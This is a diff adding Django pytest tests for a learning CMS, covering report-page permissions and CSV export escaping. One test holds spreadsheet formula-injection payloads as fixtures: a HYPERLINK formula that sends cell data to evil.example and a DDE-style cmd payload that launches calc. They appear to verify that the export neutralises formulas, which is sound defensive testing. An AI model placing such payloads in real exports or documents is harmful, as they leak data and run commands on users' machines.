@@ -6,11 +6,15 @@ from datetime import timedelta
 
 import pytest
 from django.contrib.auth import get_user_model
+from django.contrib.auth.models import Group, Permission
+from django.urls import reverse
 from django.utils import timezone
 
 from cms.learning import progress
 from cms.learning.models import Learner
 from cms.learning.report import build_unit_report
+
+from .factories import make_unit, step
 
 pytestmark = pytest.mark.django_db
 
@@ -79,3 +83,50 @@ def test_report_needs_edit_permission(client, unit):
     client.force_login(user)
     response = client.get(f"/admin/learning/reports/{unit.pk}/")
     assert response.status_code in (302, 403)
+
+
+def report_urls(unit):
+    base = reverse("learning_unit_report", args=[unit.pk])
+    return [reverse("learning_unit_reports"), base, base + "?format=csv"]
+
+
+def test_admin_user_without_report_permission_gets_403_and_no_menu_item(
+    client, django_user_model, unit, activity
+):
+    user = django_user_model.objects.create_user("redakteurin", password="pw")
+    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
+    client.force_login(user)
+    for url in report_urls(unit):
+        assert client.get(url).status_code == 403, url
+    assert reverse("learning_unit_reports") not in client.get("/admin/").content.decode()
+
+
+@pytest.mark.parametrize("group", ["Auswertung", "Editors", "Moderators"])
+def test_report_groups_open_reports_and_see_menu_item(
+    client, django_user_model, unit, activity, group
+):
+    user = django_user_model.objects.create_user("auswertung", password="pw")
+    user.groups.add(Group.objects.get(name=group))
+    client.force_login(user)
+    for url in report_urls(unit):
+        assert client.get(url).status_code == 200, url
+    assert reverse("learning_unit_reports") in client.get("/admin/").content.decode()
+
+
+def test_report_csv_neutralises_formulas_in_editor_text(client, admin_client, catalogue, levels):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+    unit = make_unit(
+        catalogue,
+        [step("@SUM(1+1)*cmd|' /C calc'!A0"), step("-2+3"), step("\tTab"), step("Normal")],
+        level_min=levels[0],
+        title=formula,
+        slug="formel",
+    )
+    learner = Learner.objects.create(token_hash="f" * 64)
+    progress.record_step_view(learner, unit, unit.step_list[0])
+    response = admin_client.get(reverse("learning_unit_report", args=[unit.pk]) + "?format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0] == ["Lerneinheit", "'" + formula] or rows[0][1] == "'" + formula
+    titles = [row[1] for row in rows if row[:1] in (["1"], ["2"], ["3"], ["4"])]
+    assert titles == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\tTab", "Normal"]
+    assert rows[1][1] == "1"  # learners started: still a number
